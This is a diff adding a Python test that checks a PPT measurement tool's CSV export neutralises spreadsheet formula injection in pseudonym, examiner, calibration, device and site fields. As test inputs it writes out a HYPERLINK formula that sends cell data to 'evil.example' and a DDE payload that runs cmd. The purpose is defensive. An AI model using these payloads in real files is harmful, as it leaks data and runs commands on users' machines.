@@ -1,0 +1,55 @@
+"""The PPT CSV opens safely in a spreadsheet: whatever a client's pseudonym, a site's name
+or the context holds, no cell can run as a formula; numbers stay numbers."""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+from test_ppt_tab import CONTEXT, make_tab, measure, set_up
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for results")'
+
+
+def cells(path: Path) -> list[list[str]]:
+    """Every cell a spreadsheet would make of the file, comment lines too (it splits them at
+    commas as well, and reads quoted parts as one cell)."""
+    with open(path, newline="", encoding="utf-8") as file:
+        return list(csv.reader(file))
+
+
+def runs_as_formula(cell: str) -> bool:
+    return cell.lstrip(" ").startswith(FORMULA_STARTS)
+
+
+def exported(qtbot, tmp_path: Path, context: dict[str, str], site: str) -> Path:
+    tab, _, _ = make_tab(qtbot, context=context)
+    tab.site_list.item(0).setText(site)
+    set_up(tab, trials=2)
+    assert tab.start()
+    measure(tab, measure(tab, 0.0, 300), 340)
+    path = tmp_path / "ppt.csv"
+    tab.export_csv(path)
+    return path
+
+
+def test_a_pseudonym_that_is_a_formula_stays_text(qtbot, tmp_path: Path) -> None:
+    context = CONTEXT | {
+        "client": HYPERLINK,
+        "examiner": "E-1, =1+1",
+        "calibration": "lab,\"=cmd|' /C calc'!A0\"",
+        "device": "@SUM(A1:A9)",
+    }
+    path = exported(qtbot, tmp_path, context, site="-2+3 Upper trapezius")
+    table = cells(path)
+    formulas = [cell for row in table for cell in row if runs_as_formula(cell)]
+    assert formulas == []
+    text = path.read_text(encoding="utf-8")
+    assert "# client: =HYPERLINK('http://evil.example/?'&A1,'Click for results')" in text
+    assert "# examiner: E-1, '=1+1" in text
+    header = next(row for row in table if row and row[0] == "site")
+    first = table[table.index(header) + 1]
+    row = dict(zip(header, first, strict=True))
+    assert row["site"] == "'-2+3 Upper trapezius"
+    assert row["trial_1_kpa"] == "299.5" and row["mean_kpa"] == "319.5"  # numbers, not text
